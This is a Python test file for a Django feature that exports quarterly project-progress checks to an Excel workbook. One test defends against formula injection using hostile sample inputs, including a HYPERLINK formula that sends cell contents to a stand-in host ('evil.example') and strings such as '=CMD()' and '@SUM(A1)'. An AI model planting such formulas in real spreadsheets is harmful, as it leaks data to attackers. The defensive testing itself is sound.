"""projects/round_export.py: the round as the paper 《党员创新工程项目进展检查表》 in an .xlsx file."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from urllib.parse import quote

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from projects import round_export, services
from projects import round_services as rsv
from projects.models import Answer, ProjectCheck, Rating
from projects.round_export import CONTENT_TYPE, round_workbook_response

from . import review_support as rs
from . import rounds_backend_support as rb
from .factories import MemberFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def workbook_of(response):
    data = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(data)), data


def test_it_writes_one_row_per_project_with_every_item_filled(company, users):
    round_ = rb.open_round_with_projects(company, users, count=3)
    checks = list(round_.checks.select_related("project").order_by("project__number"))
    services.report_file(
        project=checks[0].project,
        by=users["secretary_a"],
        data={"year": round_.year, "quarter": round_.quarter, "progress": 45, "work_done": "完成方案设计"},
    )
    for check in checks:
        rb.fill(check, users, rating=Rating.FAIRLY_GOOD, answer=Answer.MOSTLY, note="资料待补充")
    rsv.finding_raise(
        check=checks[0], by=users["reviewer"], text="佐证材料不全", deadline=timezone.localdate() + dt.timedelta(days=5)
    )

    response = round_workbook_response(round_)
    wb, _data = workbook_of(response)

    assert response["Content-Type"] == CONTENT_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment") and f"{round_.year}Q{round_.quarter}.xlsx" in disposition
    items = list(round_.items.all())
    ws = wb.worksheets[0]
    assert ws.title == "Summary"
    assert round_.title in ws["A1"].value and "Progress Checklist" in ws["A1"].value
    header = [c.value for c in ws[2]]
    assert header[:6] == ["No.", "Project number", "Branch", "Project", "Leader", "Progress (%)"]
    assert header[6:-2] == [f"{n}. {i.text}" for n, i in enumerate(items, start=1)]
    assert header[-2:] == ["Overall rating", "Findings"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=3)]
    assert len(rows) == 3
    assert [r[0] for r in rows] == [1, 2, 3]
    assert [r[1] for r in rows] == [c.project.number for c in checks]
    assert all(r[2] == "甲党支部" for r in rows)
    assert rows[0][3] == checks[0].project.title and rows[0][4] == company.member_a.name
    assert rows[0][5] == 45 and rows[1][5] is None
    for row in rows:
        assert row[6:-2] == ["Mostly conforms：资料待补充"] * len(items)
        assert row[-2] == "Fairly good"
    assert "佐证材料不全" in rows[0][-1] and rows[1][-1] is None


def test_it_sets_the_print_layout_frozen_header_and_styles(company, users):
    round_ = rb.open_round_with_projects(company, users, count=1)

    wb, _data = workbook_of(round_workbook_response(round_))

    for ws in wb.worksheets:
        assert ws.freeze_panes == "A3"
        assert ws.page_setup.orientation == "landscape"
        assert str(ws.page_setup.paperSize) == "9"  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.print_title_rows == "$1:$2"
        assert ws["A2"].font.b and ws["A2"].fill.fgColor.rgb.endswith("F2DCDB") and ws["A2"].alignment.wrap_text
        assert ws["A2"].border.left.style == "thin"
        assert ws.column_dimensions["D"].width == 30
        assert "A1:" in str(ws.merged_cells)


def test_it_adds_one_sheet_per_branch(company, users):
    member_b = MemberFactory(organization=company.branch_b, name="李乙二")
    for _ in range(2):
        rs.in_progress(company, users)
    services.project_start_if_due(
        project=rs.end_publicity(
            services.project_approve(
                project=services.project_submit(
                    project=rs.make_project(
                        organization=company.branch_b, leader=member_b, by=users["secretary_b"], title="乙支部项目"
                    ),
                    by=users["secretary_b"],
                ),
                by=users["reviewer"],
            )
        )
    )
    round_ = rb.step(rb.make_round(company, users), users, "open")

    wb, _data = workbook_of(round_workbook_response(round_))

    assert wb.sheetnames == ["Summary", "甲党支部", "乙党支部"]
    a_rows = list(wb["甲党支部"].iter_rows(min_row=3, values_only=True))
    b_rows = list(wb["乙党支部"].iter_rows(min_row=3, values_only=True))
    assert [r[0] for r in a_rows] == [1, 2] and [r[0] for r in b_rows] == [1]
    assert b_rows[0][3] == "乙支部项目" and "乙党支部" in wb["乙党支部"]["A1"].value
    assert len(list(wb["Summary"].iter_rows(min_row=3))) == 3


def test_it_writes_text_that_looks_like_a_formula_as_text(company, users):
    round_ = rb.open_round_with_projects(company, users, count=1)
    check = round_.checks.select_related("project").get()
    evil_texts = [EVIL, "+1+2", "-3", "@SUM(A1)", "\tcmd", "\rcmd"]
    for text in evil_texts:
        rsv.finding_raise(check=check, by=users["reviewer"], text=text, deadline=timezone.localdate())
    type(check.project).objects.filter(pk=check.project_id).update(title=EVIL)
    check.round.items.filter(order=1).update(text="-负号开头的检查项")
    rb.fill(check, users, note="=1+1")

    wb, data = workbook_of(round_workbook_response(round_))

    ws = wb.worksheets[0]
    title_cell = ws.cell(row=3, column=4)
    assert title_cell.value == EVIL and title_cell.data_type == "s"
    assert ws.cell(row=3, column=7).value == "Conforms：=1+1"
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_it_prefixes_the_header_of_an_item_starting_with_a_sign(company, users):
    round_ = rb.make_round(company, users)
    round_.items.filter(order=1).update(text="=CMD()")
    rs.in_progress(company, users)
    round_ = rb.step(round_, users, "open")

    wb, _data = workbook_of(round_workbook_response(round_))

    # the header carries the item's number first, so it is text anyway; the cell holds no formula
    assert wb.worksheets[0]["G2"].value == "1. =CMD()" and wb.worksheets[0]["G2"].data_type == "s"


def _count_queries(round_) -> int:
    with CaptureQueriesContext(connection) as ctx:
        b"".join(round_workbook_response(round_).streaming_content)
    return len(ctx.captured_queries)


def test_it_exports_200_rows_in_a_constant_number_of_queries(company, users):
    small = rb.open_round_with_projects(company, users, count=2)
    for check in small.checks.all():
        rb.fill(check, users)
    few = _count_queries(small)
    template = list(small.checks.select_related("project"))[0]
    project = template.project

    # 200 checks on copies of the same project row (rows through the ORM, not the slow workflow)
    big = rb.make_round(company, users, quarter=4)
    big = rb.step(big, users, "open")
    Project = type(project)
    copies = []
    for n in range(200):
        clone = Project.objects.get(pk=project.pk)
        clone.pk = None
        clone.number = f"2026-CX-{n + 100:04d}"
        clone.title = f"批量项目{n}"
        copies.append(clone)
    Project.objects.bulk_create(copies)
    ProjectCheck.objects.bulk_create(
        [ProjectCheck(round=big, project=p, organization=p.organization, rating=Rating.GOOD) for p in copies]
    )
    assert big.checks.count() >= 200

    many = _count_queries(big)

    assert many == few
    wb, _data = workbook_of(round_workbook_response(big))
    assert len(list(wb.worksheets[0].iter_rows(min_row=3))) == big.checks.count()


def test_it_names_the_file_after_the_paper_form_and_quarter(company, users, monkeypatch):
    round_ = rb.make_round(company, users, year=2026, quarter=3)
    response = round_workbook_response(round_)
    assert (
        'filename="Party Member Innovation Project Progress Checklist-2026Q3.xlsx"' in response["Content-Disposition"]
    )
    wb, _data = workbook_of(response)
    assert wb.sheetnames == ["Summary"] and wb.worksheets[0].max_row == 2

    # the Chinese name (the catalogue's translation) goes in RFC 5987's filename*
    monkeypatch.setattr(
        round_export, "round_filename", lambda r: f"党员创新工程项目进展检查表-{r.year}Q{r.quarter}.xlsx"
    )
    disposition = round_export.round_workbook_response(round_)["Content-Disposition"]
    assert "filename*=utf-8''" + quote("党员创新工程项目进展检查表-2026Q3.xlsx") in disposition
